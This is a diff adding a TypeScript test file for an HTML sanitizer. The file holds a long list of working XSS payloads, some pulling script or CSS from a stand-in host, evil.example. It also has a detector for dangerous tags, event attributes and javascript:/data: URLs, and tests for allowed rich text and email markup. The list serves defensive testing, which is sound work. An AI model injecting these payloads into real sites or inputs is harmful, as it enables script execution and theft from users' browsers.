@@ -0,0 +1,146 @@
+/**
+ * HTML 清理器测试
+ */
+
+import { HtmlSanitizer, sanitizeHtml } from '../../src/clipboard';
+import { Environment } from '../../src/core';
+
+/** 已知的 XSS 载荷 */
+const XSS_PAYLOADS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)"//',
+  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg/onload=alert(1)>',
+  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
+  '<a href="javascript&colon;alert(1)">x</a>',
+  '<a href="jav&#x09;ascript:alert(1)">x</a>',
+  '<a href="java\nscript:alert(1)">x</a>',
+  '<a href=" \u0001javascript:alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
+  '<body onload=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<div style="background:url(javascript:alert(1))">x</div>',
+  '<div style="width: expression(alert(1))">x</div>',
+  '<div style="color: red; behavior: url(x.htc); -moz-binding: url(x.xml#xss)">x</div>',
+  '<div style="color: \\65 xpression(alert(1))">x</div>',
+  '<style>@import "//evil.example/x.css";</style>',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<base href="javascript:alert(1)//">',
+  '<link rel="stylesheet" href="//evil.example/x.css">',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<<script>script>alert(1)<</script>/script>',
+  '<img """><script>alert(1)</script>">',
+  '<!--<img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<a href="https://example.com" onmouseover="alert(1)">x</a>',
+  '<p ONCLICK="alert(1)">x</p>'
+];
+
+const DANGEROUS_TAGS = ['script', 'style', 'iframe', 'object', 'embed', 'svg', 'math', 'form', 'meta', 'base', 'link', 'template', 'noscript'];
+const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href'];
+
+/**
+ * 用浏览器重新解析清理结果，检查是否残留可执行内容
+ */
+function findDangerousMarkup(html: string): string[] {
+  const doc = new DOMParser().parseFromString(`<body>${html}`, 'text/html');
+  const problems: string[] = [];
+  doc.body.querySelectorAll('*').forEach(element => {
+    const tag = element.localName.toLowerCase();
+    if (DANGEROUS_TAGS.includes(tag)) {
+      problems.push(`<${tag}>`);
+    }
+    Array.from(element.attributes).forEach(({ name, value }) => {
+      if (name.toLowerCase().startsWith('on')) {
+        problems.push(`${tag}[${name}]`);
+      }
+      const url = value.replace(/[\u0000- ]/g, '').toLowerCase();
+      if (URL_ATTRIBUTES.includes(name.toLowerCase()) && /^(javascript|vbscript|data:(?!image\/(png|gif|jpe?g|webp)))/.test(url)) {
+        problems.push(`${tag}[${name}=${value}]`);
+      }
+      if (name === 'style' && /url\(|expression|behavior|binding|\\/i.test(value)) {
+        problems.push(`${tag}[style=${value}]`);
+      }
+    });
+  });
+  return problems;
+}
+
+describe.each([
+  ['DOMParser', () => undefined],
+  ['无 DOM 解析器', () => Environment.configure({ window: null })]
+])('HtmlSanitizer（%s）', (_name, setup) => {
+  beforeEach(() => {
+    setup();
+  });
+
+  afterEach(() => {
+    Environment.reset();
+  });
+
+  it.each(XSS_PAYLOADS)('应该清除 XSS 载荷：%s', payload => {
+    for (const profile of ['plain', 'richText', 'email'] as const) {
+      const output = sanitizeHtml(payload, profile);
+      expect(findDangerousMarkup(output)).toEqual([]);
+      expect(output).not.toMatch(/<script/i);
+    }
+  });
+
+  it('应该保留白名单内的富文本并过滤样式', () => {
+    const html = '<p style="color: red; position: fixed" class="lead">Hi <b>there</b> &amp; <a href="https://example.com/?a=1&amp;b=2" target="_blank">link</a></p>';
+    expect(sanitizeHtml(html)).toBe(
+      '<p style="color: red" class="lead">Hi <b>there</b> &amp; <a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">link</a></p>'
+    );
+  });
+
+  it('未允许的标签应该被移除并保留内容', () => {
+    expect(sanitizeHtml('<custom-card><span>a</span> <u>b</u></custom-card>')).toBe('<span>a</span> <u>b</u>');
+    expect(sanitizeHtml('<section><p>a<br>b</p></section>')).toBe('<p>a<br>b</p>');
+  });
+
+  it('应该保留相对地址和 data:image 图片', () => {
+    expect(sanitizeHtml('<a href="/docs#top">a</a><img src="data:image/png;base64,AAAA" alt="x">'))
+      .toBe('<a href="/docs#top">a</a><img src="data:image/png;base64,AAAA" alt="x">');
+  });
+
+  it('plain 配置只保留段落和换行', () => {
+    expect(sanitizeHtml('<h1 class="x">Title</h1><p style="color: red">Body <b>bold</b><br>next</p>', 'plain'))
+      .toBe('Title<p>Body bold<br>next</p>');
+  });
+
+  it('email 配置允许邮件常用的标签、属性和 cid 图片', () => {
+    const html = '<table width="600" cellpadding="0"><tbody><tr><td bgcolor="#fff"><font color="red">Hi</font><img src="cid:logo"></td></tr></tbody></table>';
+    expect(sanitizeHtml(html, 'email')).toBe(html);
+    expect(sanitizeHtml('<font color="red">Hi</font><img src="cid:logo">')).toBe('Hi<img>');
+  });
+
+  it('自定义选项应该替换配置中的对应字段', () => {
+    const sanitizer = new HtmlSanitizer({
+      profile: 'plain',
+      allowedTags: ['p', 'a'],
+      allowedAttributes: { a: ['href'] },
+      allowedSchemes: ['https'],
+      allowDataAttributes: true
+    });
+    expect(sanitizer.sanitize('<p data-id="1"><a href="https://a.com" title="t">a</a><a href="http://b.com">b</a></p>'))
+      .toBe('<p data-id="1"><a href="https://a.com">a</a><a>b</a></p>');
+  });
+});